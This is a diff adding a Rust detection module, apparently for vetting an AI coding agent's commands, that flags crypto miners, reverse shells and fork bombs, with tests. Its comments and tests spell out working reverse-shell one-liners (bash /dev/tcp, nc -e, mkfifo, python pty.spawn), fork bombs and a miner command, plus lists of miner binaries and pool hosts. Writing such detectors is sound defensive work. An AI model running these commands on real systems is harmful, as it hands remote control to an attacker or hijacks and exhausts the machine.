@@ -0,0 +1,244 @@
+//! Built-in detection of commands that abuse the machine rather than work
+//! on the project: crypto miners, reverse shells and resource exhaustion.
+//!
+//! These are never part of a coding task, so the patterns are deliberately
+//! narrow — a miner binary or pool URL, a shell wired to a socket, a fork
+//! bomb — and a match is worth flagging even where a policy lets generic
+//! commands through. Rules deny them with `if_threat`; the audit log marks
+//! every command that matches, whatever was decided.
+
+use crate::utils::command::normalize_command;
+use serde::{Deserialize, Serialize};
+use std::fmt;
+
+/// Known miner programs.
+const MINERS: &[&str] = &[
+    "xmrig",
+    "xmr-stak",
+    "xmr-stak-rx",
+    "minerd",
+    "cpuminer",
+    "cpuminer-multi",
+    "cgminer",
+    "bfgminer",
+    "ethminer",
+    "ccminer",
+    "t-rex",
+    "nbminer",
+    "lolminer",
+    "phoenixminer",
+    "nanominer",
+    "gminer",
+    "teamredminer",
+    "srbminer-multi",
+];
+
+/// Mining pool protocols and hosts that only a miner talks to.
+const POOL_MARKERS: &[&str] = &[
+    "stratum+tcp://",
+    "stratum+ssl://",
+    "stratum+tls://",
+    "stratum2+tcp://",
+    "minexmr.com",
+    "supportxmr.com",
+    "moneroocean.stream",
+    "nanopool.org",
+    "2miners.com",
+    "f2pool.com",
+    "nicehash.com",
+    "hashvault.pro",
+];
+
+/// Load generators with no place in a coding session.
+const STRESSORS: &[&str] = &["stress", "stress-ng", "cpuburn", "burnp6"];
+
+/// A kind of abuse a command shows.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Threat {
+    /// A miner binary or a mining pool connection
+    CryptoMining,
+    /// A shell whose input and output go over a network connection
+    ReverseShell,
+    /// Fork bombs, stress tools and busy loops
+    ResourceAbuse,
+}
+
+impl Threat {
+    /// The names `if_threat` accepts.
+    pub const NAMES: &'static [&'static str] =
+        &["crypto_mining", "reverse_shell", "resource_abuse"];
+}
+
+impl fmt::Display for Threat {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Threat::CryptoMining => write!(f, "crypto_mining"),
+            Threat::ReverseShell => write!(f, "reverse_shell"),
+            Threat::ResourceAbuse => write!(f, "resource_abuse"),
+        }
+    }
+}
+
+/// The threats a command line shows, each at most once.
+pub fn detect(command: &str) -> Vec<Threat> {
+    let normalized = normalize_command(command);
+    let lower = normalized.to_ascii_lowercase();
+    let mut found = Vec::new();
+    let programs = programs(&lower);
+
+    if programs.iter().any(|p| MINERS.contains(p)) || POOL_MARKERS.iter().any(|m| lower.contains(m))
+    {
+        found.push(Threat::CryptoMining);
+    }
+    if is_reverse_shell(&lower, &programs) {
+        found.push(Threat::ReverseShell);
+    }
+    if is_resource_abuse(&lower, &programs) {
+        found.push(Threat::ResourceAbuse);
+    }
+    found
+}
+
+/// The program of each segment of a command line, as a basename.
+fn programs(command: &str) -> Vec<&str> {
+    command
+        .split(['&', '|', ';', '(', ')', '{', '}'])
+        .filter_map(|segment| {
+            segment
+                .split_whitespace()
+                .find(|w| {
+                    !matches!(
+                        *w,
+                        "sudo" | "nohup" | "nice" | "exec" | "time" | "command" | "builtin"
+                    ) && !w.contains('=')
+                })
+                .map(|program| program.rsplit('/').next().unwrap_or(program))
+        })
+        .collect()
+}
+
+fn is_reverse_shell(command: &str, programs: &[&str]) -> bool {
+    // bash -i >& /dev/tcp/10.0.0.1/4444 0>&1, exec 5<>/dev/tcp/...
+    if command.contains("/dev/tcp/") || command.contains("/dev/udp/") {
+        return true;
+    }
+    // nc -e /bin/sh host 4444, ncat -c bash ...
+    let netcat = programs
+        .iter()
+        .any(|p| matches!(*p, "nc" | "ncat" | "netcat"));
+    let runs_program = command
+        .split(['&', '|', ';'])
+        .map(|segment| segment.split_whitespace().collect::<Vec<_>>())
+        .any(|words| {
+            words
+                .iter()
+                .any(|w| matches!(w.rsplit('/').next(), Some("nc" | "ncat" | "netcat")))
+                && words.iter().any(|w| matches!(*w, "-e" | "-c"))
+        });
+    if runs_program {
+        return true;
+    }
+    // socat exec:'bash -li',pty tcp:host:4444
+    if programs.contains(&"socat") && command.contains("exec:") && command.contains("tcp") {
+        return true;
+    }
+    // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f
+    if netcat && programs.contains(&"mkfifo") {
+        return true;
+    }
+    // python -c 'import socket,os,pty;...;pty.spawn("/bin/sh")', and the
+    // perl, ruby and php equivalents
+    let interpreter = programs.iter().any(|p| {
+        ["python", "perl", "ruby", "php", "node"]
+            .iter()
+            .any(|i| p.starts_with(i))
+    });
+    interpreter
+        && command.contains("socket")
+        && ["pty.spawn", "dup2", "/bin/sh", "/bin/bash", "sh -i"]
+            .iter()
+            .any(|m| command.contains(m))
+}
+
+fn is_resource_abuse(command: &str, programs: &[&str]) -> bool {
+    if programs.iter().any(|p| STRESSORS.contains(p)) {
+        return true;
+    }
+    let compact: String = command.chars().filter(|c| !c.is_whitespace()).collect();
+    // :(){ :|:& };: and its renamed variants: a function piping into itself
+    // in the background
+    if let Some(define) = compact.find("(){") {
+        let name = compact[..define]
+            .rsplit([';', '&', '|', '\n'])
+            .next()
+            .unwrap_or("");
+        if !name.is_empty() && compact[define..].contains(&format!("{}|{}&", name, name)) {
+            return true;
+        }
+    }
+    // while true; do :; done — a loop that does nothing but spin
+    [
+        "whiletrue;do:;done",
+        "whiletrue;dotrue;done",
+        "while:;do:;done",
+    ]
+    .iter()
+    .any(|spin| compact.contains(spin))
+        || compact.contains("yes>/dev/null")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_detect() {
+        for (command, expected) in [
+            (
+                "./xmrig -o pool.supportxmr.com:443 -u wallet",
+                vec![Threat::CryptoMining],
+            ),
+            (
+                "nohup /tmp/.x/cpuminer --url stratum+tcp://pool:3333 &",
+                vec![Threat::CryptoMining],
+            ),
+            (
+                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                vec![Threat::ReverseShell],
+            ),
+            ("nc -e /bin/sh 10.0.0.1 4444", vec![Threat::ReverseShell]),
+            (
+                "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+                vec![Threat::ReverseShell],
+            ),
+            (
+                r#"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'"#,
+                vec![Threat::ReverseShell],
+            ),
+            (":(){ :|:& };:", vec![Threat::ResourceAbuse]),
+            ("bomb(){ bomb|bomb& }; bomb", vec![Threat::ResourceAbuse]),
+            (
+                "stress-ng --cpu 64 --timeout 1h",
+                vec![Threat::ResourceAbuse],
+            ),
+            ("while true; do :; done", vec![Threat::ResourceAbuse]),
+        ] {
+            assert_eq!(detect(command), expected, "{}", command);
+        }
+    }
+
+    #[test]
+    fn test_ordinary_commands_are_clean() {
+        for command in [
+            "cargo test --workspace",
+            "nc -z localhost 5432",
+            "python3 -c 'import socket; print(socket.gethostname())'",
+            "grep -r xmrig docs/",
+            "while true; do curl -s localhost:8080/health && break; sleep 1; done",
+            "git log --stat",
+        ] {
+            assert!(detect(command).is_empty(), "{}", command);
+        }
+    }
+}